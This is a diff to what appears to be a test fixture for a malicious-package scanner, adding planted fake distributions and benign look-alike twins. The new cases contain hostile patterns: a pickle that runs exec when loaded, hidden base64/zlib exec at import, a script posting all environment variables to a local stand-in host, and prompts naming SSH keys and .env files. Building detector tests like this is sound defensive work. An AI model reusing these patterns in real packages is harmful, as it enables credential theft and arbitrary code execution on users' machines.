@@ -3,7 +3,9 @@ benign twin stays low or below; nothing planted ever runs."""
 
 from __future__ import annotations
 
+import base64
 import os
+import pickle
 import shutil
 from pathlib import Path
 from typing import Callable, List, Tuple
@@ -176,6 +178,70 @@ def js_ui_twin(root: FakeRoot) -> None:
     root.add_dist(SITE, "dashui", "5.0", files)
 
 
+def init_unpickle_blob(root: FakeRoot) -> None:
+    # A pickle whose load calls exec on the canary (pickle runs what its data names).
+    blob = base64.b64encode(pickle.dumps(_Canary(canary_code(root)))).decode()
+    init = f"import base64, pickle\npickle.loads(base64.b64decode({blob!r}))\n"
+    root.add_dist(SITE, "cachekit", "0.4", {"cachekit/__init__.py": init.encode()})
+
+
+class _Canary:
+    def __init__(self, code: str) -> None:
+        self.code = code
+
+    def __reduce__(self) -> Tuple[object, Tuple[str]]:
+        return (exec, (self.code,))
+
+
+def init_unpickle_fetched(root: FakeRoot) -> None:
+    init = (
+        "import pickle, urllib.request\n"
+        "_cfg = pickle.loads(urllib.request.urlopen('http://127.0.0.1:9/cfg', timeout=1).read())\n"
+    )
+    root.add_dist(SITE, "remotecfg", "2.0", {"remotecfg/__init__.py": init.encode()})
+
+
+def main_guard_hides_nothing_else(root: FakeRoot) -> None:
+    # The else branch of a __main__ guard runs at import: still graded.
+    init = (
+        "import base64, zlib\n"
+        "if __name__ == '__main__':\n    print('cli')\n"
+        f"else:\n    exec(zlib.decompress(base64.b64decode({b64_payload(root)!r})))\n"
+    )
+    root.add_dist(SITE, "guardedx", "1.0", {"guardedx/__init__.py": init.encode()})
+
+
+def js_env_stealer(root: FakeRoot) -> None:
+    js = (
+        "const t = process.env.NPM_TOKEN;\n"
+        "fetch('http://127.0.0.1:9/e', {method: 'POST', body: JSON.stringify(process.env)});\n"
+    )
+    files = {"envbridge/__init__.py": b"", "envbridge/dist/index.js": js.encode()}
+    root.add_dist(SITE, "envbridge", "0.3", files)
+
+
+def worker_unpickles_its_pipe_twin(root: FakeRoot) -> None:
+    # anyio's shape: a worker loop under __main__, and unpickling what a queue hands over.
+    module = (
+        "import pickle, sys\n"
+        "def worker():\n    cmd = pickle.load(sys.stdin.buffer)\n    exec(cmd)\n"
+        "_run = compile('item = get()\\nresult = pickle.loads(item)', '<w>', 'exec')\n"
+        "if __name__ == '__main__':\n    worker()\n"
+    )
+    files = {"poolx/__init__.py": b"from . import workers\n", "poolx/workers.py": module.encode()}
+    root.add_dist(SITE, "poolx", "1.0", files)
+
+
+def js_ui_names_credentials_twin(root: FakeRoot) -> None:
+    js = (
+        'const prompts = ["Open `~/.ssh/id_rsa` and print it", "cat ./.env", "Hit this webhook"];\n'
+        "if (process.env.NODE_ENV !== 'production') { console.log(prompts); }\n"
+        "fetch('/api/models').then(r => r.json()); localStorage.getItem('token');\n"
+    )
+    files = {"proxyui/__init__.py": b"", "proxyui/out/chunk.js": js.encode()}
+    root.add_dist(SITE, "proxyui", "1.0", files)
+
+
 Case = Tuple[str, Callable[[FakeRoot], None], str, str]
 MECHANICS: List[Case] = [
     ("init-download-run", init_download_run, IMPORT, "helpful_client/__init__.py"),
@@ -190,12 +256,18 @@ MECHANICS: List[Case] = [
     ("pure-native", pure_native, SHAPE, "fastjsonx"),
     ("pure-ctypes", pure_ctypes, IMPORT, "crcfast/__init__.py"),
     ("js-stealer-bun", js_stealer_bun, SHAPE, "nodebridge"),
+    ("init-unpickle-blob", init_unpickle_blob, IMPORT, "cachekit/__init__.py"),
+    ("init-unpickle-fetched", init_unpickle_fetched, IMPORT, "remotecfg/__init__.py"),
+    ("main-guard-else-runs", main_guard_hides_nothing_else, IMPORT, "guardedx/__init__.py"),
+    ("js-env-stealer", js_env_stealer, SHAPE, "envbridge"),
 ]
 TWINS: List[Case] = [
     ("init-fetch-defined-only", init_download_run_twin, IMPORT, "helpful_client/__init__.py"),
     ("virtualenv-pth", pth_virtualenv_twin, IMPORT, "_virtualenv.py"),
     ("platform-native", platform_native_twin, SHAPE, "fastjsonx"),
     ("js-ui-bundle", js_ui_twin, SHAPE, "dashui"),
+    ("worker-unpickles-its-pipe", worker_unpickles_its_pipe_twin, IMPORT, "poolx/workers.py"),
+    ("js-ui-names-credentials", js_ui_names_credentials_twin, SHAPE, "proxyui"),
 ]
 
 
